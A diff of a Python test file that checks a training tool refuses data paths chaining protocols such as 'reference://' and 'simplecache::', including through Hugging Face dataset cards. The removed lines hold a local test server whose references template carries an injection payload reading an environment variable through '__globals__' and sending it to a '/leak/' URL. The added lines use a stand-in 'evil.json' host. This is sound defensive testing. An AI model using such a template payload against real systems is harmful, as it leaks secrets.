@@ -2,9 +2,10 @@
 
 import json
 import os
-import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+import socket
 from pathlib import Path
+from types import SimpleNamespace
+from unittest.mock import Mock
 
 import pytest
 import tokenizers
@@ -15,43 +16,28 @@ from tokenizers import decoders, models, normalizers, pre_tokenizers
 from widthwise.data.json_tokenizer import JsonTokenizer, read_definition
 from widthwise.data.readers import read_documents
 
+URL = "http://127.0.0.1:9/evil.json"
+"""A file of references, whose templates could send what they read anywhere."""
+
 
 @pytest.fixture
-def evil(monkeypatch):
-    """The URL of a file of references whose template sends an environment variable back, and the requests made."""
-    requests, secret = [], "WIDTHWISE_TEST_SECRET"
-    monkeypatch.setenv(secret, "hunter2")
+def connections(monkeypatch):
+    """The addresses to which a connection is opened."""
+    addresses = []
 
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self):
-            requests.append(self.path)
-            leak = f"{url}/leak/{{{{u.__globals__[os].environ[{secret}]}}}}"
-            refs = {name: [leak] for name in ("/manifest.json", "a.jsonl")}
-            content = json.dumps({"version": 1, "templates": {"u": "{{x}}"}, "refs": refs}).encode()
-            self.send_response(200)
-            self.send_header("Content-Length", str(len(content)))
-            self.end_headers()
-            self.wfile.write(content)
+    def connect(connection, address):
+        addresses.append(address)
+        raise ConnectionRefusedError
 
-        do_HEAD = do_GET
-
-        def log_message(self, format, *arguments):
-            pass
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    url = f"http://127.0.0.1:{server.server_port}"
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield f"{url}/evil.json", requests
-    server.shutdown()
-    server.server_close()
+    monkeypatch.setattr(socket.socket, "connect", connect)
+    return addresses
 
 
-def test_a_path_that_chains_protocols_is_refused_by_every_verb(evil, refused, small, recipe):
-    url, requests = evil
+def test_a_path_that_chains_protocols_is_refused_by_every_verb(connections, refused, small, recipe):
     config = yaml.safe_load(Path(small, "config.yaml").read_text())
     allowed = "allowed: file, http, https, s3, gs, gcs, az, hf"
     for chain in ("reference://::", "reference::", "simplecache::", "zip://a::", "filecache::"):
-        path = f"{chain}{url}"
+        path = f"{chain}{URL}"
         assert allowed in refused("data", "verify", path)
         said = refused("train", recipe, f"data={{path: '{path}'}}", "--out", "run")
         assert all(part in said for part in ("data.path", "got protocol", allowed))
@@ -59,17 +45,15 @@ def test_a_path_that_chains_protocols_is_refused_by_every_verb(evil, refused, sm
     Path(small, "config.yaml").write_text(yaml.safe_dump({**config, "data": {"path": path}}))
     for verb in ("resume", "eval", "analyze"):
         refused(verb, small)
-    assert requests == []
+    assert connections == []
 
 
-def test_a_hugging_face_dataset_that_names_references_is_refused(evil, tmp_path):
+def test_a_hugging_face_dataset_that_names_references_is_refused(connections, tmp_path):
     pytest.importorskip("datasets")
-    url, requests = evil
-    (tmp_path / "README.md").write_text(
-        f"---\nconfigs:\n- config_name: default\n  data_files: 'reference://a.jsonl::{url}'\n---\n"
-    )
+    configs = [{"config_name": "default", "data_files": f"reference://a.jsonl::{URL}"}]
+    (tmp_path / "README.md").write_text(f"---\nconfigs: {json.dumps(configs)}\n---\n")
     assert "reference" in refusal(list, read_documents(f"hf:{tmp_path}"))
-    assert requests == []
+    assert connections == []
 
 
 def test_a_recipe_is_a_plain_file_of_at_most_a_megabyte(refused, small):
@@ -121,9 +105,6 @@ STRANGE = {
     "Unk token `<unk>` not found": [
         definition(model={"type": "BPE", "vocab": {"</s>": 0, "a": 1}, "merges": [], "unk_token": "<unk>"}),
     ],
-    "model: got WordLevel; must be BPE": [
-        definition(model={"type": "WordLevel", "vocab": {"</s>": 0, "a": 1}, "unk_token": "<unk>"}),
-    ],
     "is not a tokenizer": [definition(normalizer=[[[]]])],
 }
 
@@ -147,10 +128,7 @@ def test_a_text_that_a_tokenizer_cannot_encode_is_a_mistake_of_the_user_and_ctrl
         pass
 
     def raising(error):
-        def encode(*arguments, **options):
-            raise error
-
-        return type("Library", (), {"encode_batch_fast": encode, "decode": encode})()
+        return SimpleNamespace(encode_batch_fast=Mock(side_effect=error), decode=Mock(side_effect=error))
 
     for error in (Exception("Missing"), PanicException("index")):
         monkeypatch.setattr(tokenizer, "_tokenizer", raising(error))
